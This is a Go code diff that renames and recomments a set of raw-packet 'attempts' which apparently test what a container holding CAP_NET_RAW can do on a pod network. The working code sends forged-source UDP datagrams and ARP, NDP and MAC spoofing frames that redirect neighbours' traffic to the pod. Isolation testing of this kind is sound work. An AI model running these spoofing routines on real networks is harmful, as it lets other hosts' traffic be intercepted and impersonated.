@@ -14,15 +14,15 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// packetAttempts are those on the network by packets of one's own making, for which a container has CAP_NET_RAW.
+// packetAttempts are attempts on the network with crafted packets, for which a container has CAP_NET_RAW.
 var packetAttempts = map[string]attempt{
-	"datagram": words(5, datagram),
-	"claim":    words(2, claim),
-	"claim6":   words(3, claim6),
-	"wear":     words(2, wear),
+	"datagram":  words(5, datagram),
+	"spoof-arp": words(2, spoofARP),
+	"spoof-ndp": words(3, spoofNDP),
+	"spoof-mac": words(2, spoofMAC),
 }
 
-// podLink is the link that a pod has.
+// podLink is the name of a pod's link.
 const podLink = "eth0"
 
 func rawSocket([]string) (string, error) {
@@ -37,7 +37,7 @@ func packetSocket() (int, error) {
 	return unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
 }
 
-// send sends a frame by a link.
+// send sends a frame through a link.
 func send(link *net.Interface, to, from net.HardwareAddr, ethertype uint16, payload []byte) error {
 	fd, err := packetSocket()
 	if err != nil {
@@ -52,7 +52,7 @@ func frame(to, from net.HardwareAddr, ethertype uint16, payload []byte) []byte {
 	return append(binary.BigEndian.AppendUint16(b, ethertype), payload...)
 }
 
-// neighbour is the hardware address of somebody in the pods' network, whom this asks something first so that the kernel knows it.
+// neighbour returns the hardware address of a host in the pod network. It connects first, so that the kernel has an entry.
 func neighbour(ip netip.Addr) (net.HardwareAddr, error) {
 	if _, err := dial([]string{"tcp", netip.AddrPortFrom(ip, 1).String()}); err != nil && !errors.Is(err, unix.ECONNREFUSED) {
 		return nil, err
@@ -63,18 +63,18 @@ func neighbour(ip netip.Addr) (net.HardwareAddr, error) {
 			return net.ParseMAC(fields[3])
 		}
 	}
-	return nil, errors.Join(fmt.Errorf("%s is no neighbour", ip), err)
+	return nil, errors.Join(fmt.Errorf("no neighbour entry for %s", ip), err)
 }
 
-// meeting is what packets to a neighbour are made of.
-type meeting struct {
-	link      *net.Interface   // the pod's
-	hardware  net.HardwareAddr // the neighbour's
-	addresses []netip.Addr     // those that the packet is to have in it
+// peer is a neighbour, and the addresses for packets to it.
+type peer struct {
+	link      *net.Interface   // of the pod
+	hardware  net.HardwareAddr // of the neighbour
+	addresses []netip.Addr     // in the packet
 }
 
-// meet parses addresses and finds a neighbour by its IPv4 address.
-func meet(by string, addresses ...string) (m meeting, err error) {
+// newPeer parses addresses and finds a neighbour by its IPv4 address.
+func newPeer(by string, addresses ...string) (m peer, err error) {
 	m.addresses = make([]netip.Addr, len(addresses))
 	for i, text := range addresses {
 		if m.addresses[i], err = netip.ParseAddr(text); err != nil {
@@ -92,26 +92,25 @@ func meet(by string, addresses ...string) (m meeting, err error) {
 	return m, err
 }
 
-// tell sends the neighbour a packet from the pod's own hardware address.
-func (m *meeting) tell(ethertype uint16, payload []byte) error {
+// send sends a packet to the neighbour from the pod's own hardware address.
+func (m *peer) send(ethertype uint16, payload []byte) error {
 	return send(m.link, m.hardware, m.link.HardwareAddr, ethertype, payload)
 }
 
-// datagram sends a UDP datagram that says to be of one address to a port of another, by a neighbour:
-// "datagram FROM TO PORT NEIGHBOUR TEXT".
+// datagram sends a UDP datagram with a forged source address through a neighbour: "datagram FROM TO PORT NEIGHBOUR TEXT".
 func datagram(w []string) (string, error) {
 	port, err := strconv.ParseUint(w[2], 10, 16)
 	if err != nil {
 		return "", err
 	}
-	m, err := meet(w[3], w[0], w[1])
+	m, err := newPeer(w[3], w[0], w[1])
 	if err != nil {
 		return "", err
 	}
-	return "", m.tell(unix.ETH_P_IP, packet(m.addresses[0], m.addresses[1], uint16(port), w[4]))
+	return "", m.send(unix.ETH_P_IP, packet(m.addresses[0], m.addresses[1], uint16(port), w[4]))
 }
 
-// packet is an IPv4 packet with a datagram in it.
+// packet returns an IPv4 packet with a UDP datagram.
 func packet(from, to netip.Addr, port uint16, text string) []byte {
 	const ipHeader, udpHeader = 20, 8
 	p := make([]byte, ipHeader+udpHeader, ipHeader+udpHeader+len(text))
@@ -120,13 +119,13 @@ func packet(from, to netip.Addr, port uint16, text string) []byte {
 	copy(p[12:], from.AsSlice())
 	copy(p[16:], to.AsSlice())
 	binary.BigEndian.PutUint16(p[10:], checksum(p[:ipHeader]))
-	binary.BigEndian.PutUint16(p[ipHeader:], 9) // a source port that nobody answers to
+	binary.BigEndian.PutUint16(p[ipHeader:], 9) // source port
 	binary.BigEndian.PutUint16(p[ipHeader+2:], port)
-	binary.BigEndian.PutUint16(p[ipHeader+4:], uint16(udpHeader+len(text))) // the checksum 0 is none
+	binary.BigEndian.PutUint16(p[ipHeader+4:], uint16(udpHeader+len(text))) // checksum 0: none
 	return append(p, text...)
 }
 
-// checksum is that of a header of IPv4.
+// checksum returns the internet checksum (RFC 1071).
 func checksum(header []byte) uint16 {
 	var sum uint32
 	for i := 0; i < len(header); i += 2 {
@@ -138,10 +137,9 @@ func checksum(header []byte) uint16 {
 	return ^uint16(sum)
 }
 
-// claim tells a neighbour that an address is this pod's: "claim ADDRESS NEIGHBOUR". That is how traffic is led to a pod that it
-// is not meant for.
-func claim(w []string) (string, error) {
-	m, err := meet(w[1], w[0], w[1])
+// spoofARP tells a neighbour that an address is this pod's, which redirects traffic to this pod: "spoof-arp ADDRESS NEIGHBOUR".
+func spoofARP(w []string) (string, error) {
+	m, err := newPeer(w[1], w[0], w[1])
 	if err != nil {
 		return "", err
 	}
@@ -155,12 +153,12 @@ func claim(w []string) (string, error) {
 			return "", err
 		}
 	}
-	return "", m.tell(unix.ETH_P_ARP, b.Bytes())
+	return "", m.send(unix.ETH_P_ARP, b.Bytes())
 }
 
-// claim6 is claim for IPv6: "claim6 ADDRESS NEIGHBOUR NEIGHBOUR-IPV4".
-func claim6(w []string) (string, error) {
-	m, err := meet(w[2], w[0], w[1])
+// spoofNDP is spoofARP for IPv6: "spoof-ndp ADDRESS NEIGHBOUR NEIGHBOUR-IPV4".
+func spoofNDP(w []string) (string, error) {
+	m, err := newPeer(w[2], w[0], w[1])
 	if err != nil {
 		return "", err
 	}
@@ -172,23 +170,23 @@ func claim6(w []string) (string, error) {
 	message := []byte{advertisement, 0, 0, 0, solicited | override, 0, 0, 0}
 	message = append(append(message, m.addresses[0].AsSlice()...), targetOption, 1)
 	message = append(message, m.link.HardwareAddr...)
-	return "", m.tell(unix.ETH_P_IPV6, packet6(own, m.addresses[1], message))
+	return "", m.send(unix.ETH_P_IPV6, packet6(own, m.addresses[1], message))
 }
 
-// wear sends a packet that has no address that is known beyond the link, in a frame that has the hardware address of a neighbour:
-// "wear NEIGHBOUR-IPV4 SOURCE-IPV6". A bridge that lets it in takes the neighbour to be here.
-func wear(w []string) (string, error) {
-	m, err := meet(w[0], w[1])
+// spoofMAC sends a packet with a source address that is not valid beyond the link, in a frame with a neighbour's hardware address:
+// "spoof-mac NEIGHBOUR-IPV4 SOURCE-IPV6". A bridge that accepts it forwards the neighbour's traffic to this pod.
+func spoofMAC(w []string) (string, error) {
+	m, err := newPeer(w[0], w[1])
 	if err != nil {
 		return "", err
 	}
 	const echo = 128
 	message := packet6(m.addresses[0], netip.IPv6LinkLocalAllNodes(), []byte{echo, 0, 0, 0, 0, 0, 0, 0})
-	nobody := net.HardwareAddr{2, 0, 0, 0, 0, 1} // whose answer would tell the bridge better
+	nobody := net.HardwareAddr{2, 0, 0, 0, 0, 1} // unused: a response would correct the bridge
 	return "", send(m.link, nobody, m.hardware, unix.ETH_P_IPV6, message)
 }
 
-// packet6 is an IPv6 packet with a message of ICMPv6 in it, whose checksum it sets.
+// packet6 returns an IPv6 packet with an ICMPv6 message, and sets its checksum.
 func packet6(from, to netip.Addr, message []byte) []byte {
 	pseudo := append(from.AsSlice(), to.AsSlice()...)
 	pseudo = binary.BigEndian.AppendUint32(pseudo, uint32(len(message)))
@@ -199,7 +197,7 @@ func packet6(from, to netip.Addr, message []byte) []byte {
 	return append(p, message...)
 }
 
-// ownAddress is the address of a link that is known beyond it.
+// ownAddress returns the global IPv6 address of a link.
 func ownAddress(link *net.Interface) (netip.Addr, error) {
 	all, err := link.Addrs()
 	for _, a := range all {
@@ -208,5 +206,5 @@ func ownAddress(link *net.Interface) (netip.Addr, error) {
 			return p.Addr(), nil
 		}
 	}
-	return netip.Addr{}, errors.Join(errors.New("there is no address of IPv6"), err)
+	return netip.Addr{}, errors.Join(errors.New("no global IPv6 address"), err)
 }
